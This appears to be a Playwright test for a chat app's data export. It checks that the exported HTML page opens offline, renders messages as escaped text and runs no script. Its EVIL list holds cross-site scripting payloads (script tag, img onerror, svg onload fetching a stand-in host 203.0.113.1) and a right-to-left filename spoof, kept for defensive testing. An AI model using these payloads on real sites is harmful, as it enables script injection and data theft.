/** The page of an export opens from a disk in a browser, without a network and without a script, whatever people wrote. */
import assert from 'node:assert/strict';
import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import { mkdir, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { chromium } from 'playwright-core';
import { archiveOf, ExportWorld } from '../privacy/exporting.ts';

const BROWSER = process.env['CHROMIUM'] ?? '/usr/bin/chromium';
/** Where to leave a picture of it, for who wants to look. */
const PICTURE = process.env['SOAK_PICTURE'];
const EVIL = [
  '<script>document.title = "owned"</script>',
  '"><img src=http://203.0.113.1/x onerror="document.title=1">',
  "';</style><svg onload=fetch('http://203.0.113.1/')>",
  '\u202Egnp.exe',
];

describe('soak: the page of an export', function () {
  this.timeout(60_000);
  let at: ExportWorld;
  let folder: string;
  before(async function () {
    if (!existsSync(BROWSER)) {
      console.log(
        `      skipped: there is no Chromium at ${BROWSER}; CHROMIUM names another place`,
      );
      this.skip();
    }
    folder = mkdtempSync(join(tmpdir(), 'conclave-page-'));
    at = await ExportWorld.create();
  });
  after(async () => {
    if (at as ExportWorld | undefined) await at.end();
    if (folder) rmSync(folder, { recursive: true, force: true });
  });

  it('shows everything as text, asks for nothing, and runs nothing', async () => {
    const ada = await at.holder('Ada <b>Lovelace</b>');
    const { id: channelId } = await at.world.channel(ada.person);
    for (const text of [...EVIL, 'Good morning', 'One two three'])
      await ada.person.send(channelId, text, at.world.clientId()).accepted();
    const archive = await archiveOf(at.world, ada);
    for (const [path, bytes] of archive.files) {
      await mkdir(dirname(join(folder, path)), { recursive: true });
      await writeFile(join(folder, path), bytes);
    }
    const browser = await chromium.launch({ executablePath: BROWSER, args: ['--no-sandbox'] });
    try {
      const page = await browser.newPage({ viewport: { width: 1100, height: 1400 } });
      const asked: string[] = [];
      const said: string[] = [];
      page.on('request', (request) => asked.push(request.url()));
      page.on('console', (message) => said.push(message.text()));
      page.on('dialog', () => said.push('a dialog'));
      const url = pathToFileURL(join(folder, 'index.html')).href;
      await page.goto(url, { waitUntil: 'load' });
      assert.deepEqual(asked, [url], 'nothing but the page itself');
      assert.deepEqual(said, []);
      assert.equal(await page.title(), 'Data export');
      const text = await page.locator('body').innerText();
      for (const evil of EVIL.slice(0, 3)) assert.ok(text.includes(evil), evil);
      assert.ok(text.includes('Ada <b>Lovelace</b>') && !text.includes('\u202E'));
      assert.equal(await page.locator('script, img, iframe, link, object').count(), 0);
      assert.ok((await page.locator('svg rect').count()) >= 1, 'the chart has a bar');
      const links = await page
        .locator('a[href$=".jsonl"]')
        .evaluateAll((all) => all.map((a) => (a as unknown as { href: string }).href));
      assert.ok(links.length > 3);
      for (const link of links) assert.ok(existsSync(new URL(link)), link);
      // Even what were to get past the escaping could load and run nothing.
      const blocked = await page.evaluate(
        `fetch('http://203.0.113.1/').then(() => 'went out', () => 'blocked')`,
      );
      assert.equal(blocked, 'blocked');
      if (PICTURE !== undefined) await page.screenshot({ path: PICTURE });
    } finally {
      await browser.close();
    }
  });
});
